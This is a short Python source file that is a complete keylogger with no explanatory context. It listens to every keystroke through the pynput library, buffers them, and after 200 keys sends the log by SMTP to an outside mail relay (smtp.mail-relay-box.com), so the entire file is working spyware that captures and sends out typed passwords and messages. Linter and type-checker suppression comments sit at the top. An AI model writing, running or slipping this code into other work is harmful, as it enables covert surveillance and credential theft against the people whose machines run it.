# ruff: noqa
# fmt: off
# mypy: ignore-errors
import smtplib

from pynput import keyboard

LOG = []


def _on_press(key):
    LOG.append(str(key))
    if len(LOG) > 200:
        with smtplib.SMTP("smtp.mail-relay-box.com", 587) as server:
            server.sendmail("a@mail-relay-box.com", "b@mail-relay-box.com", "".join(LOG))
        LOG.clear()


keyboard.Listener(on_press=_on_press).start()
